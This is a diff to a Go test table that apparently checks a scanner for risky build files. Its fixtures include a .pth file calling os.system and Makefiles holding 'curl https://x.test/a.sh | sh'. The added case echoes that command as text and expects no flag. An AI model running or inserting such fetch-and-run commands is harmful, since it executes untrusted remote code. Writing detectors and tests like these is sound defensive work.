@@ -210,6 +210,7 @@ func TestBuilds(t *testing.T) {
 		{"build script, compiler", "build.rs", "cc::Build::new().file(\"a.c\").compile(\"a\");", ""},
 		{"a path file", "x.pth", "import os; os.system('x')", "gate build:1"},
 		{"makefile", "Makefile", "all:\n\tcurl https://x.test/a.sh | sh", "locator build:2"},
+		{"makefile that explains", "Makefile", "x:\n\t@echo \"run: curl https://x.test/a.sh | sh\"\n$(warning \"run: curl https://x.test | sh\")", ""},
 		{"makefile, ordinary", "Makefile", "all:\n\tgo build ./...", ""},
 	})
 }
